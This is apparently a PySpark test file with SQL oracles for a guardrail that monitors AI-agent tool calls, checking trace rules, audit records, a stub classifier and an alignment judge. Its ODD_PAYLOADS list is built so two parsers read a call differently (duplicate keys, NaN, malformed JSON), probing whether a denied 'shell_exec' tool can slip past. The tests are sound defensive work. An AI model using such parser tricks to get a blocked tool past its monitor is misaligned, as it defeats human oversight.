@query("SELECT conv_id * 1000 + turn AS seq, CASE WHEN role = 'assistant' THEN 'response' ELSE 'request' END AS phase, 'c' || conv_id AS route, role AS caller, md5(text) AS md5 FROM conversations")
def exchange_files(spark, sf_dir):
    """Exchanges written as JSON lines and read back by their schema."""
    folder = new_folder(spark, "exchanges")
    talk_exchanges(spark, sf_dir).write.json(folder)
    back = exchanges.read(spark, folder, "json")
    said = F.coalesce(F.get_json_object("payload", "$.arguments.text"), F.get_json_object("payload", "$.content[0].text"))
    return back.select("seq", "phase", identity.metadata_value(F.col("metadata"), "route_name").alias("route"), identity.caller(F.col("headers")).alias("caller"), F.md5(said).alias("md5"))


@query("SELECT event_id, event_type AS kind, CAST(user_id AS VARCHAR) AS who FROM events")
def header_decode(spark, sf_dir):
    """Headers as bytes; of equal names the last counts."""
    pair = lambda key, value: F.struct(F.lit(key).alias("key"), F.encode(value, "UTF-8").alias("value"))
    pairs = F.array(pair("who", F.lit("nobody")), pair("kind", F.col("event_type")), pair("who", F.col("user_id").cast("string")))
    df = exchanges.with_decoded_headers(table(spark, sf_dir, "events").select("event_id", pairs.alias("headers")))
    return df.select("event_id", F.col("headers")["kind"].alias("kind"), F.col("headers")["who"].alias("who"))


@query("SELECT event_id, CAST(json_extract_string(props, '$.k') AS BIGINT) AS k FROM events")
def dotted_path(spark, sf_dir):
    return table(spark, sf_dir, "events").select("event_id", rules.argument(F.col("props"), "k", "long").alias("k"))


@query("SELECT conv_id, turn, CASE turn % 3 WHEN 0 THEN 'deny' ELSE 'allow' END AS outcome, role AS tool, CAST(conv_id AS DOUBLE) AS duration_ms, turn % 2 = 0 AS truncated FROM conversations WHERE turn % 5 <> 4")
def audit_parse(spark, sf_dir):
    """Audit lines back as records; broken lines are left out."""
    outcome = F.when(F.col("turn") % 3 == 0, "deny").otherwise("allow")
    good = F.to_json(F.struct(outcome.alias("outcome"), F.lit("request").alias("phase"), F.col("role").alias("tool"), F.col("conv_id").cast("double").alias("duration_ms"), (F.col("turn") % 2 == 0).alias("truncated")))
    lines = table(spark, sf_dir, "conversations").select("conv_id", "turn", F.when(F.col("turn") % 5 == 4, F.substring(good, 1, 20)).otherwise(good).alias("value"))
    return audit_log.parse(lines).select("conv_id", "turn", "outcome", "tool", "duration_ms", "truncated")


@query("SELECT role, count(*) AS n, count(*) FILTER (turn % 4 = 0) AS absent, count(*) FILTER (turn % 4 = 1) AS bad FROM conversations GROUP BY role")
def parse_payloads(spark, sf_dir):
    """Null payloads are empty objects, broken ones errors."""
    raw = F.when(F.col("turn") % 4 == 0, None).when(F.col("turn") % 4 == 1, F.lit("{no")).otherwise(F.to_json(F.struct("text")))
    got = table(spark, sf_dir, "conversations").select("role", text.extract_text(raw).alias("x"))
    return got.groupBy("role").agg(F.count("*").alias("n"), F.count_if(F.expr("x.text = '{}'")).alias("absent"), F.count_if(F.expr("x.error LIKE 'invalid json payload%'")).alias("bad"))


# ---------------------------------------------------------------- trace rules


def calls(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Events with typed arguments: k a number, name a text."""
    ev = table(spark, sf_dir, "events").select("event_id", "user_id", "ts", "event_type", rules.argument(F.col("props"), "k", "long").alias("k"))
    args = F.to_json(F.struct("k", F.concat(F.lit("v"), F.col("k").cast("string")).alias("name")))
    return called(ev.withColumn("a", fence(args)), F.col("a"), F.concat("event_type", F.lit(":"), "a"))


def called(ev: DataFrame, args: Column, fp: Column | None = None) -> DataFrame:
    rows = trace.record(ev, F.col("user_id"), F.col("event_id"), F.col("ts"), F.col("event_type"), args, fp=fp)
    return rows.select("event_id", "key", "seq", "ts", "tool", "args", "recorded", *(["fp"] if fp is not None else []))


DAY, SPAN = 86400.0, 8
LOOP, RATE = rules.Loop("loop", 3), rules.Rate("rate", "*", DAY, 3)
SUM = rules.Budget("sum", "k", 150, "(purchase|click)", DAY)
FLOW2 = rules.Flow("flow2", (rules.Step("error"), rules.Step("purchase", {"name": "^v[5-9][0-9]$"})))
FLOW3 = rules.Flow("flow3", (rules.Step("signup"), rules.Step("error"), rules.Step("purchase")))
GUARDED = rules.Flow("guarded", (rules.Step("error"), rules.Step("view", guard=True), rules.Step("purchase")))
SQL_CALLS = "WITH e AS (SELECT event_id, user_id, ts, event_type, props, event_type || ':' || props AS fp, json_extract_string(props, '$.k') AS k, count(*) OVER w AS rn FROM events WINDOW w AS (PARTITION BY user_id ORDER BY ts, event_id ROWS UNBOUNDED PRECEDING))"
SQL_NOW = "OVER (PARTITION BY user_id ORDER BY ts, event_id ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW)"
SQL_PAST = "OVER (PARTITION BY user_id ORDER BY ts, event_id ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING)"
SQL_LOOP = SQL_CALLS + f", l AS (SELECT *, lag(rn, 2) OVER (PARTITION BY user_id, fp ORDER BY ts, event_id) AS b FROM e), loop AS (SELECT event_id, coalesce(max(b) {SQL_NOW} > rn - 256, false) AS hit FROM l)"
SQL_RATE = f", r AS (SELECT *, lag(rn, 3) OVER (PARTITION BY user_id, event_type ORDER BY ts, event_id) AS b, lag(ts, 3) OVER (PARTITION BY user_id, event_type ORDER BY ts, event_id) AS s FROM e), rate AS (SELECT event_id, coalesce(max(b) {SQL_NOW} > rn - 256 AND max(s) {SQL_NOW} >= ts - INTERVAL 1 DAY, false) AS hit FROM r)"
SQL_FLOW2 = f", f AS (SELECT *, CASE WHEN event_type = 'error' THEN rn END AS d1 FROM e), f2 AS (SELECT *, CASE WHEN event_type = 'purchase' AND regexp_matches('v' || k, '^v[5-9][0-9]$') THEN max(d1) {SQL_PAST} END AS d2 FROM f), flow2 AS (SELECT event_id, coalesce(max(d2) {SQL_NOW} > rn - 8, false) AS hit FROM f2)"


@query(SQL_LOOP + " SELECT event_id, hit FROM loop")
def loop_rule(spark, sf_dir):
    return trace.apply_rule(calls(spark, sf_dir), LOOP).select("event_id", F.col("loop").alias("hit"))


@query(SQL_CALLS + SQL_RATE + " SELECT event_id, hit FROM rate")
def rate_rule(spark, sf_dir):
    return trace.apply_rule(calls(spark, sf_dir), RATE).select("event_id", F.col("rate").alias("hit"))


@query("WITH e AS (SELECT *, event_type || ':' || json_extract_string(props, '$.k') || CASE WHEN event_id % 2 = 0 THEN '.0' ELSE '' END AS fp, count(*) OVER (PARTITION BY user_id ORDER BY ts, event_id ROWS UNBOUNDED PRECEDING) AS rn FROM events), l AS (SELECT *, lag(rn, 1) OVER (PARTITION BY user_id, fp ORDER BY ts, event_id) AS b FROM e) SELECT event_id, coalesce(max(b) OVER (PARTITION BY user_id ORDER BY ts, event_id ROWS UNBOUNDED PRECEDING) > rn - 64, false) AS hit FROM l")
def loop_typed(spark, sf_dir):
    """Calls with 1 and with 1.0 are not the same call, whatever the order of the arguments' names."""
    k = rules.argument(F.col("props"), "k", "string")
    k = F.concat(k, F.when(F.col("event_id") % 2 == 0, ".0").otherwise(""))
    args = F.when(F.col("event_id") % 3 == 0, F.concat(F.lit('{"k": '), k, F.lit(', "a": 1}'))).otherwise(F.concat(F.lit('{"a":1,"k":'), k, F.lit("}")))
    return trace.apply_rule(called(table(spark, sf_dir, "events"), args), rules.Loop("loop", 2), 64).select("event_id", F.col("loop").alias("hit"))


@query("WITH e AS (SELECT *, CASE WHEN event_type IN ('purchase', 'click') THEN CAST(json_extract_string(props, '$.k') AS BIGINT) - 40 ELSE 0 END AS v FROM events), w AS (SELECT event_id, ts, list({'t': ts, 'v': v}) OVER (PARTITION BY user_id ORDER BY ts, event_id ROWS BETWEEN 3 PRECEDING AND CURRENT ROW) AS x FROM e), y AS (SELECT event_id, list_transform(list_filter(x, lambda c: c.t >= ts - INTERVAL 2 DAY), lambda c: c.v) AS v FROM w) SELECT event_id, list_max(list_transform(range(1, len(v) + 1), lambda i: list_sum(v[1 : i]))) > 40 AS hit FROM y")
def sum_negative(spark, sf_dir):
    """Sums that go down again, over the last four calls of the last two days: one that was over the total counts."""
    ev = table(spark, sf_dir, "events")
    args = F.to_json(F.struct((rules.argument(F.col("props"), "k", "long") - 40).alias("k")))
    return trace.apply_rule(called(ev, args, F.lit("")), rules.Budget("sum", "k", 40, "(purchase|click)", 2 * DAY), 4).select("event_id", F.col("sum").alias("hit"))


@query(SQL_CALLS + " SELECT event_id, coalesce(sum(CASE WHEN event_type IN ('purchase', 'click') THEN CAST(k AS DOUBLE) END) OVER (PARTITION BY user_id ORDER BY ts RANGE BETWEEN INTERVAL 1 DAY PRECEDING AND CURRENT ROW), 0) > 150 AS hit FROM e")
def sum_rule(spark, sf_dir):
    return trace.apply_rule(calls(spark, sf_dir), SUM).select("event_id", F.col("sum").alias("hit"))


@query("SELECT event_id, FALSE AS pattern_on_number, FALSE AS text_on_number, k = 77 AS number, regexp_matches('v' || k, '^v7') AS pattern, 'v' || k = 'v77' AS same, FALSE AS number_on_text FROM (SELECT event_id, CAST(json_extract_string(props, '$.k') AS BIGINT) AS k FROM events)")
def argument_matchers(spark, sf_dir):
    """Patterns and texts find text alone, numbers find numbers alone."""
    is_ = lambda path, matcher: rules.argument_is(F.col("args"), path, matcher)
    return calls(spark, sf_dir).select("event_id", is_("k", "^[5-9][0-9]$").alias("pattern_on_number"), is_("k", "77").alias("text_on_number"), is_("k", 77).alias("number"), is_("name", "^v7").alias("pattern"), is_("name", "v77").alias("same"), is_("name", 77).alias("number_on_text"))


@query(SQL_CALLS + SQL_FLOW2 + " SELECT event_id, hit FROM flow2")
def flow_rule(spark, sf_dir):
    return trace.apply_rule(calls(spark, sf_dir), FLOW2, SPAN).select("event_id", F.col("flow2").alias("hit"))


@query(SQL_CALLS + f", a AS (SELECT *, CASE WHEN event_type = 'signup' THEN rn END AS d1 FROM e), b AS (SELECT *, CASE WHEN event_type = 'error' THEN max(d1) {SQL_PAST} END AS d2 FROM a), c AS (SELECT *, CASE WHEN event_type = 'purchase' THEN max(d2) {SQL_PAST} END AS d3 FROM b) SELECT event_id, coalesce(max(d3) {SQL_NOW} > rn - 8, false) AS hit FROM c")
def flow3_rule(spark, sf_dir):
    return trace.apply_rule(calls(spark, sf_dir), FLOW3, SPAN).select("event_id", F.col("flow3").alias("hit"))


@query(SQL_CALLS + ", w AS (SELECT event_id, list(event_type) OVER (PARTITION BY user_id ORDER BY ts, event_id ROWS BETWEEN 7 PRECEDING AND CURRENT ROW) AS x FROM e) SELECT event_id, list_reduce(list_prepend(0, list_transform(x, lambda t: CASE t WHEN 'error' THEN 1 WHEN 'view' THEN 2 WHEN 'purchase' THEN 3 ELSE 4 END)), lambda s, t: CASE WHEN s = 9 THEN 9 WHEN s = 5 AND t = 2 THEN 0 WHEN s = 5 AND t = 3 THEN 9 WHEN s = 5 THEN 5 WHEN t = 1 THEN 5 ELSE 0 END) = 9 AS hit FROM w")
def flow_negate(spark, sf_dir):
    return trace.apply_rule(calls(spark, sf_dir), GUARDED, SPAN).select("event_id", F.col("guarded").alias("hit"))


@query(SQL_LOOP + SQL_RATE + SQL_FLOW2 + " SELECT event_id, CASE WHEN flow2.hit THEN 'invariant:flow2' WHEN loop.hit THEN 'invariant:loop' WHEN rate.hit THEN 'invariant:rate' END AS scanner FROM flow2 JOIN loop USING (event_id) JOIN rate USING (event_id)")
def rule_priority(spark, sf_dir):
    df = trace.apply_rule(trace.blocks(calls(spark, sf_dir)), FLOW2, SPAN).withColumnRenamed("flow2", "first")
    df = trace.judged(trace.apply_pack(df, (LOOP, RATE)))
    return df.select("event_id", F.when(F.col("first"), "invariant:flow2").otherwise(F.col("invariant.scanner")).alias("scanner"))


#: The fold by recursion: b and t are the stages that a flow has parked and since when; codes are the last 8 calls.
_RUN = "(list_reduce(list_prepend(10 + {start}, codes), lambda s, c: {step}) - 10)"
_RUN2 = _RUN.format(start="x1", step="CASE WHEN s = 10 AND c = 1 THEN 11 WHEN s = 11 AND c = 3 THEN 12 ELSE s END")
_RUN3 = _RUN.format(start="x2", step="CASE WHEN s = 10 AND c = 1 THEN 11 WHEN s = 11 AND c = 2 THEN 10 WHEN s = 11 AND c IN (3, 4) THEN 12 ELSE s END")
_PARK = "CASE WHEN p{k} = 2 OR p{k} < x{k} THEN 0 ELSE greatest(p{k}, x{k}) END AS b{k}, CASE WHEN p{k} > x{k} THEN ts ELSE t{k} END AS t{k}"
_START = "CASE WHEN b{k} > 0 AND ts > t{k} + INTERVAL 30 DAY THEN 0 ELSE b{k} END AS x{k}"
SQL_STICKY = (
    SQL_CALLS.replace("WITH e AS", "WITH RECURSIVE e AS")
    + f""", w AS (SELECT event_id, user_id, ts, rn, list(CASE event_type WHEN 'error' THEN 1 WHEN 'view' THEN 2 WHEN 'purchase' THEN CASE WHEN regexp_matches('v' || k, '^v[5-9][0-9]$') THEN 3 ELSE 4 END ELSE 5 END) OVER l AS codes, list(fp) OVER l AS fps FROM e WINDOW l AS (PARTITION BY user_id ORDER BY ts, event_id ROWS BETWEEN 7 PRECEDING AND CURRENT ROW)),
    v AS (SELECT event_id, user_id, ts, rn, codes, list_max(list_transform(fps, lambda x: len(list_filter(fps, lambda y: y = x)))) >= 3 AS again FROM w),
    f AS (SELECT user_id, CAST(0 AS BIGINT) AS rn, CAST(NULL AS BIGINT) AS event_id, CAST(NULL AS VARCHAR) AS rule, 0 AS b1, min(ts) AS t1, 0 AS b2, min(ts) AS t2 FROM v GROUP BY user_id
      UNION ALL SELECT user_id, rn, event_id, CASE WHEN p1 = 2 THEN 'flow2' WHEN p2 = 2 THEN 'guarded' WHEN again THEN 'loop' END, CAST(b1 AS INTEGER), t1, CAST(CASE WHEN p1 = 2 THEN o2 ELSE b2 END AS INTEGER), CASE WHEN p1 = 2 THEN u2 ELSE t2 END FROM (
        SELECT user_id, rn, event_id, again, p1, p2, o2, u2, {_PARK.format(k=1)}, {_PARK.format(k=2)} FROM (
          SELECT user_id, rn, event_id, again, ts, x1, t1, x2, t2, b2 AS o2, t2 AS u2, {_RUN2} AS p1, {_RUN3} AS p2 FROM (
            SELECT v.user_id, v.rn, v.event_id, v.again, v.ts, v.codes, b1, t1, b2, t2, {_START.format(k=1)}, {_START.format(k=2)} FROM f JOIN v ON v.user_id = f.user_id AND v.rn = f.rn + 1))))
    SELECT CAST(user_id AS VARCHAR) AS key, event_id AS seq, rule FROM f WHERE rn > 0"""
)


@query(SQL_STICKY)
def flow_sticky(spark, sf_dir):
    """The fold with parked progress: flows may span more calls than the window holds."""
    return fold.fold_keys(calls(spark, sf_dir), (FLOW2, GUARDED, LOOP), SPAN, 30 * DAY)


@query(SQL_STICKY)
def stream_trace(spark, sf_dir):
    """The same calls through a stream that keeps its traces in state: they come in three parts, each read by a query that
    is started anew on the checkpoint of the one before."""
    ev = calls(spark, sf_dir)
    run = lambda stream: trace_stream(stream, (FLOW2, GUARDED, LOOP), SPAN, 30 * DAY).select("key", "seq", "rule")
    return through_stream([ev.where(part) for part in thirds(ev)], run)


@query(SQL_CALLS + " SELECT event_id, array_to_string(list(event_type) OVER (PARTITION BY user_id ORDER BY ts, event_id ROWS BETWEEN 4 PRECEDING AND CURRENT ROW), ', ') AS summary FROM e")
def trace_summary(spark, sf_dir):
    return trace.summary(calls(spark, sf_dir)).select("event_id", "summary")


@query("SELECT event_id, round(avg(CASE WHEN event_type = 'error' THEN 1.0 ELSE 0.0 END) OVER w, 9) AS failure_ratio, count(*) OVER w < 20 OR avg(CASE WHEN event_type = 'error' THEN 1.0 ELSE 0.0 END) OVER w <= 0.2 AS healthy FROM events WINDOW w AS (PARTITION BY user_id ORDER BY ts, event_id ROWS BETWEEN 99 PRECEDING AND CURRENT ROW)")
def health_window(spark, sf_dir):
    ev = table(spark, sf_dir, "events").withColumn("seq", F.col("event_id"))
    df = audit.health(ev, "user_id", F.col("event_type") != "error", worst=0.2)
    return df.select("event_id", F.round("failure_ratio", 9).alias("failure_ratio"), "healthy")


@query(ORACLE_SQL["health_window"])
def stream_health(spark, sf_dir):
    """The same samples through a stream that keeps each scanner's last ones in state."""
    ev = table(spark, sf_dir, "events").select("user_id", F.col("event_id").alias("seq"), "ts", "event_type")
    run = lambda stream: reports.health_stream(stream, "user_id", F.col("event_type") != "error", worst=0.2)
    found = through_stream([ev.where(part) for part in thirds(ev)], run)
    return found.select(F.col("seq").alias("event_id"), F.round("failure_ratio", 9).alias("failure_ratio"), "healthy")


# ---------------------------------------------------------------- exchanges, audit, replay


def talk_exchanges(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Conversations as exchanges: a question calls the tool `ask/<role>`, the answer is its result."""
    talk = texts(spark, sf_dir, "conversations")
    ask = F.col("role") != "assistant"
    id_ = F.concat_ws("-", "conv_id", F.floor(F.col("turn") / 2).cast("string"))
    request = F.to_json(F.struct(F.concat(F.lit("ask/"), F.col("role")).alias("name"), F.struct("text", "turn").alias("arguments")))
    response = F.to_json(F.struct(F.array(F.struct(F.lit("text").alias("type"), "text")).alias("content")))
    return talk.select(
        id_.alias("exchange_key"), F.when(ask, "request").otherwise("response").alias("phase"), F.lit("tools/call").alias("method"), F.array(F.lit("talk")).alias("service_names"),
        F.create_map(F.lit("exchange_id"), id_, F.lit("route_name"), F.concat(F.lit("c"), F.col("conv_id"))).alias("metadata"), F.create_map(F.lit("x-forwarded-user"), F.col("role")).alias("headers"),
        F.when(ask, request).otherwise(response).alias("payload"), F.timestamp_seconds(1_700_000_000 + F.col("conv_id") * 1000 + F.col("turn")).alias("ts"), (F.col("conv_id") * 1000 + F.col("turn")).alias("seq"),
    )


_with, _last = sql_redaction("text", "{'c': conv_id, 't': turn}", REDACTIONS, "conversations")
#: The decided conversations: t is what is scanned, masked the number of substitutions in answers.
SQL_TALK = (
    _with
    + f""", q AS (SELECT conv_id, turn, role, role <> 'assistant' AS ask, text, CASE WHEN role <> 'assistant' THEN '{{"arguments": {{"text": ' || to_json(text) || ', "turn": ' || turn || '}}, "name": "ask/' || role || '"}}' ELSE text END AS t FROM conversations),
    h AS (SELECT *, {SQL_INDEX} AS i FROM q), m AS (SELECT h.*, CASE WHEN ask THEN 0 ELSE n END AS masked FROM h JOIN {_last} r ON r.k.c = conv_id AND r.k.t = turn),
    v AS (SELECT *, {SQL_SCANNER} AS scanner, {SQL_OUTCOME} AS o, {SQL_REASON} AS r FROM m),
    y AS (SELECT conv_id || '-' || turn // 2 AS exchange_id, CASE WHEN ask THEN 'request' ELSE 'response' END AS phase, CASE WHEN ask THEN 'ask/' || role ELSE '' END AS tool, role AS caller, conv_id, turn, o, t, ask,
      CASE o WHEN 'block' THEN scanner || ':block:' || r WHEN 'human_review' THEN scanner || ':review' ELSE '' END AS said, CASE WHEN o = 'block' THEN 0 ELSE masked END AS masked FROM v),
    z AS (SELECT *, CASE WHEN o = 'block' THEN 'deny' WHEN masked > 0 THEN 'mutated' ELSE 'allow' END AS wire, CASE WHEN masked = 0 THEN said ELSE CASE WHEN said <> '' THEN said || ';' ELSE '' END || 'redaction:' || masked || ' substitution(s)' END AS reason FROM y)"""
)


@query(SQL_TALK + " SELECT exchange_id, phase, tool, caller, wire AS outcome, reason, CASE wire WHEN 'deny' THEN 'error' WHEN 'allow' THEN 'pass' ELSE wire END AS kind, substr(sha256(t), 1, 12) AS payload_sha256, strlen(t) AS total_bytes, conv_id * 1000 + turn AS seq FROM z")
def decide_exchange_table(spark, sf_dir):
    """The whole dataflow over the conversations."""
    out = decide_exchanges(talk_exchanges(spark, sf_dir))
    return out.select("exchange_id", "phase", "tool", "caller", "outcome", "reason", "wire.kind", "payload_sha256", "total_bytes", "seq")


#: Payloads that two parsers would read in two ways, that name no tool, or that nobody can read, by number; {t} is a JSON text.
ODD_PAYLOADS = (
    '{{"name": "shell_exec", "name": "shell_exec", "arguments": {{}}}}', '{{"name": "shell_exec", "arguments": {{"v": NaN, "t": {t}}}}}', '{{"name": 5, "arguments": {{}}}}', '{{"name": null}}', "{t}", "[1, {t}]", "true",
    "{{not json", "", None, '{{"name": "x", "arguments": [1]}}', '{{"name": "shell_exec", "arguments": {{"a": 1, "a": 2}}}}',
)
_ODD_SAYS = [  # tool, error, text
    ("'shell_exec'", "NULL", """'{"arguments": {}, "name": "shell_exec"}'"""), ("'shell_exec'", "NULL", """'{"arguments": {"t": ' || q || ', "v": NaN}, "name": "shell_exec"}'"""), ("'5'", "NULL", """'{"arguments": {}, "name": 5}'"""), ("'None'", "NULL", """'{"name": null}'"""),
    ("''", "NULL", """'{"_raw": ' || q || '}'"""), ("''", "NULL", """'{"_raw": [1, ' || q || ']}'"""), ("''", "NULL", """'{"_raw": true}'"""), ("''", "'INVALID'", "''"), ("''", "'INVALID'", "''"), ("''", "NULL", "'{}'"), ("''", "'PERMISSION_DENIED'", "''"), ("'shell_exec'", "NULL", """'{"arguments": {"a": 2}, "name": "shell_exec"}'"""),
]
_odd_case = lambda j: "CASE k " + " ".join(f"WHEN {k} THEN {s[j]}" for k, s in enumerate(_ODD_SAYS)) + " END"
SQL_ODD = f"WITH a AS (SELECT conv_id * 1000 + turn AS seq, CASE role WHEN 'assistant' THEN 'x' ELSE role END AS caller, (conv_id * 7 + turn) % {len(ODD_PAYLOADS)} AS k, to_json('w' || conv_id)::VARCHAR AS q FROM conversations), o AS (SELECT seq, caller, {_odd_case(0)} AS tool, {_odd_case(1)} AS error, {_odd_case(2)} AS t FROM a)"


def odd_exchanges(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Requests whose payloads are ODD_PAYLOADS."""
    k, t = (F.col("seq") / 1000).cast("long") * 7 + F.col("seq") % 1000, F.concat(F.lit('"w'), (F.col("seq") / 1000).cast("long").cast("string"), F.lit('"'))
    branch = F
    for n, p in enumerate(ODD_PAYLOADS):
        branch = branch.when(k % len(ODD_PAYLOADS) == n, None if p is None else F.replace(F.lit(p.format(t="@")), F.lit("@"), t))
    return talk_exchanges(spark, sf_dir).withColumns({"phase": F.lit("request"), "payload": branch})


@query(SQL_ODD + " SELECT seq, tool, CASE WHEN error IS NOT NULL THEN 'error:' || error WHEN tool = 'shell_exec' THEN 'error:PERMISSION_DENIED' ELSE 'pass:' END AS wire, CASE WHEN error IS NULL THEN CASE tool WHEN 'shell_exec' THEN 'deny' ELSE 'allow' END END AS outcome, substr(sha256(t), 1, 12) AS payload_sha256 FROM o")
def decide_odd_payloads(spark, sf_dir):
    """Whatever shape a payload has, a denied tool stays denied, and what can't be read is refused."""
    out = decide_exchanges(odd_exchanges(spark, sf_dir), Config(deny_tools=("shell_exec",)), pack=())
    return out.select("seq", "tool", F.concat_ws(":", "wire.kind", F.coalesce("wire.code", F.lit(""))).alias("wire"), "outcome", "payload_sha256")


@query(SQL_ODD + " SELECT tool, CASE tool WHEN 'shell_exec' THEN 'deny' ELSE 'allow' END AS outcome, count(*) AS n FROM o WHERE error IS NULL GROUP BY ALL")
def audit_refused(spark, sf_dir):
    """Records of exchanges, none of them for a payload that was refused."""
    out = audit.record(decide_exchanges(odd_exchanges(spark, sf_dir), Config(deny_tools=("shell_exec",)), pack=()))
    return out.groupBy("tool", "outcome").agg(F.count("*").alias("n"))


@query(ORACLE_SQL["decide_exchange_table"])
def stream_decisions(spark, sf_dir):
    """The same exchanges through the stream that keeps traces in front of decisions, in three parts with restarts."""
    talk = talk_exchanges(spark, sf_dir)
    traced = through_stream([talk.where(part) for part in thirds(talk)], traced_stream)
    out = decide_exchanges(traced)
    return out.select("exchange_id", "phase", "tool", "caller", "outcome", "reason", "wire.kind", "payload_sha256", "total_bytes", "seq")


SQL_SECOND = """WITH a AS (SELECT conv_id, turn, role, text, role <> 'assistant' AS ask, least(1.0, 8.0 * len(regexp_extract_all(text, '[A-Z]')) / greatest(1, length(text)))::DOUBLE AS s FROM conversations),
    b AS (SELECT *, conv_id || '-' || turn // 2 AS exchange_id FROM a WHERE NOT ask)"""


@query(SQL_SECOND + " SELECT conv_id * 1000 + turn AS seq, CASE WHEN s >= 0.9 THEN 'block' WHEN s >= 0.3 THEN 'human_review' ELSE 'allow' END AS first, CASE WHEN s >= 0.9 OR s < 0.3 THEN '' WHEN length(text) % 2 = 0 THEN 'block:AgentAlignment: compromised (observation match_len=' || length(text) || ')' ELSE 'allow:' END AS second, CASE WHEN s >= 0.9 OR (s >= 0.3 AND length(text) % 2 = 0) THEN 'deny' WHEN s >= 0.3 THEN 'human_review' ELSE 'allow' END AS outcome FROM b")
def second_stage_decisions(spark, sf_dir):
    """Answers under a stand-in classifier (share of capitals) and a stand-in judge (texts of even length are bad)."""
    cfg = Config(enable_regex_scanner=False, enable_agent_alignment=True, enable_redaction=False, pg_review_threshold=0.3)
    out = decide_exchanges(talk_exchanges(spark, sf_dir), cfg, classifier=classify.scorer(classify.stub(_capitals)), judge=classify.aligner(lambda: _even))
    of = lambda name: F.filter("results", lambda r: r.scanner == name)
    second = F.coalesce(F.get(F.transform(of(classify.SECOND), lambda r: F.concat_ws(":", r.outcome, r.reason)), 0), F.lit(""))
    labelled = decide.audit_outcome(F.col("decision.deny"), F.col("decision.human_review"), F.lit(False))
    return out.where("phase = 'response'").select("seq", F.get(of(classify.NAME), 0)["outcome"].alias("first"), second.alias("second"), labelled.alias("outcome"))


def _even(asked: str) -> tuple[bool, str]:
    value = asked.rsplit("Evaluate this agent action:\n\n", 1)[1]
    return len(value) % 2 == 0, value


@query("SELECT conv_id * 1000 + turn AS seq, CASE WHEN role = 'assistant' THEN 'response' ELSE 'request' END AS phase, CASE WHEN length(text) % 3 = 0 THEN 'onnx-promptguard:review' ELSE '' END AS reason FROM conversations")
def failures_pass_open(spark, sf_dir):
    """A scorer that fails on some texts, where failures are reviewed and pass."""
    cfg = Config(enable_regex_scanner=False, enable_redaction=False, failure_mode="failOpen")
    talk = talk_exchanges(spark, sf_dir).withColumn("payload", F.to_json(F.struct(F.array(F.struct(F.coalesce(F.get_json_object("payload", "$.arguments.text"), F.get_json_object("payload", "$.content[0].text")).alias("text"))).alias("content"))))
    out = decide_exchanges(talk, cfg, classifier=classify.scorer(classify.stub(_fails_on_thirds)))
    return out.select("seq", "phase", "reason")


def _fails_on_thirds(value: str) -> float:
    if len(value) % 3 == 0:
        raise ValueError("thirds")
    return 0.0


def talk_audit(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Audit records of the conversations under a fixed verdict by length, for the replay queries."""
    talk = table(spark, sf_dir, "conversations")
    n = F.length("text")
    outcome = F.when(n % 7 == 0, "deny").when(n % 5 == 0, "human_review").otherwise("allow")
    block = result(F.concat(F.lit("invariant:rule"), (n % 2).cast("string")), "block", "r", 0.0)
    scanners = F.when(outcome == "deny", F.array(result("regex", "allow", "", 0.0), block)).when(outcome == "human_review", F.array(result("regex:jwt", "human_review", "", 0.8))).otherwise(F.array(result("regex", "allow", "", 0.0)))
    return talk.select(
        F.when(F.col("role") == "assistant", "response").otherwise("request").alias("phase"), F.lit("tools/call").alias("method"), outcome.alias("outcome"), F.concat_ws("-", "conv_id", F.floor(F.col("turn") / 2).cast("string")).alias("exchange_id"),
        (1.7e12 + F.col("conv_id") * 1000 + F.col("turn")).alias("ts_ms"), F.lit(None).cast("long").alias("ts"), F.col("role").alias("tool"), F.concat(F.lit("why "), n.cast("string")).alias("reason"), F.lit("r").alias("ref"), (n % 100).cast("double").alias("duration_ms"), scanners.alias("scanners"),
    )


SQL_AUDIT = "WITH a AS (SELECT CASE role WHEN 'assistant' THEN 'response' ELSE 'request' END AS phase, CASE WHEN length(text) % 7 = 0 THEN 'deny' WHEN length(text) % 5 = 0 THEN 'human_review' ELSE 'allow' END AS outcome, conv_id || '-' || turn // 2 AS exchange_id, 1.7e12 + conv_id * 1000 + turn AS ts_ms, role AS tool, 'why ' || length(text) AS reason, (length(text) % 100)::DOUBLE AS duration_ms, length(text) AS n FROM conversations)"
SQL_SCANS = ", s AS (SELECT phase, outcome AS o, 'regex' AS scanner, 'allow' AS outcome FROM a WHERE outcome <> 'human_review' UNION ALL SELECT phase, outcome, 'invariant:rule' || n % 2, 'block' FROM a WHERE outcome = 'deny' UNION ALL SELECT phase, outcome, 'regex:jwt', 'human_review' FROM a WHERE outcome = 'human_review')"


@query(SQL_AUDIT + " SELECT outcome, count(*) AS n, round(100.0 * count(*) / sum(count(*)) OVER (), 6) AS percent FROM a GROUP BY outcome")
def replay_outcomes(spark, sf_dir):
    return audit.distribution(talk_audit(spark, sf_dir), "outcome")


@query(SQL_AUDIT + " SELECT phase, count(*) AS n, round(100.0 * count(*) / sum(count(*)) OVER (), 6) AS percent FROM a GROUP BY phase")
def replay_phase(spark, sf_dir):
    return audit.distribution(talk_audit(spark, sf_dir), "phase")


@query(SQL_AUDIT + SQL_SCANS + " SELECT scanner, outcome, count(*) AS n FROM s GROUP BY ALL")
def replay_scanners(spark, sf_dir):
    return audit.scanner_outcomes(talk_audit(spark, sf_dir))


@query(SQL_AUDIT + SQL_SCANS + " SELECT substr(scanner, 11) AS rule, count(*) AS n FROM s WHERE starts_with(scanner, 'invariant:') GROUP BY ALL")
def replay_rules(spark, sf_dir):
    return audit.rule_hits(talk_audit(spark, sf_dir))


@query(SQL_AUDIT + ", g AS (SELECT exchange_id, count(*) AS n, min(phase) AS phase FROM a GROUP BY 1) SELECT count(*) AS exchanges, count(*) FILTER (n >= 2) AS pairs, count(*) FILTER (n = 1 AND phase = 'request') AS request_only, count(*) FILTER (n = 1 AND phase = 'response') AS response_only FROM g")
def replay_pairs(spark, sf_dir):
    return audit.pairs(talk_audit(spark, sf_dir))


@query(ORACLE_SQL["replay_pairs"])
def stream_pairs(spark, sf_dir):
    """Both sides of exchanges arrive in parts; late singles are given out when signs of life move the watermark on."""
    rows = talk_audit(spark, sf_dir).select("phase", "outcome", "exchange_id", "ts_ms", "ts").withColumn("t", F.timestamp_millis(F.col("ts_ms").cast("long")))
